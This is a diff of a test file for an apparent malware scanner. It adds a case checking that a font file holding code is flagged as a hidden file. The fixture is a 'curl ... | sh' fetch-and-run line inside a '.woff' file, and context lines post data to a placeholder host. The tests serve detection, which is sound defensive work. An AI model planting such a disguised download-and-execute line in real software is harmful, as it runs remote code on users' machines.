@@ -96,3 +96,10 @@ def test_what_a_module_does_unless_it_is_started_is_done_for_who_imports_it():
         "p/send.py": "import requests\ndef push(data):\n    requests.post('https://c.invalid', json=data)\n",
     }
     assert found(files)["chain.environment-to-network"].when is When.IMPORT
+
+
+def test_a_font_that_a_page_is_packed_with_is_no_code_and_code_called_like_one_is():
+    index = "const font = require('./letters.woff'); module.exports = font;"
+    code = b"require('child_process').execSync('curl -s http://192.0.2.5/a | sh');"
+    assert "hidden.file" in found({"index.js": index, "letters.woff": code})
+    assert "hidden.file" not in found({"index.js": index, "letters.woff": b"wOFF\0\1\0\0" + bytes(64)})
